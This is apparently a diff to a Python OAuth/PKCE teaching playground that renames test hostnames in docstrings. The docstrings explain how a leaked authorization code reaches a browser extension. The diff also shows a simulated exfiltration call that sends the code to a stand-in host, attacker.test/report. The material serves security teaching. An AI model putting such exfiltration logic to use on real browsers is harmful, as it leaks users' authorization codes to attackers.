@@ -58,7 +58,7 @@ def approve(run):
     """
     Alice signs in at the authorization server and approves. The server
     stores the challenge with the code and sends the browser back to
-    `https://client.playground.test/spa/callback?code=...`.
+    `https://photoprint.test/spa/callback?code=...`.
 
     The code is now in the **address bar**, and in everything that sees
     addresses: the browser's history, extensions, `Referer` headers, proxy
@@ -85,7 +85,7 @@ def leak(run):
     The extension sees addresses, not the app's memory: it gets the **code**,
     the `state` and `iss`, but the verifier never was in an address.
 
-    Look at the request to `attacker.playground.test/report`: it is sent by
+    Look at the request to `attacker.test/report`: it is sent by
     Alice's own browser.
     """
     run.attacker.exfiltrate(run.browser, path="/report")
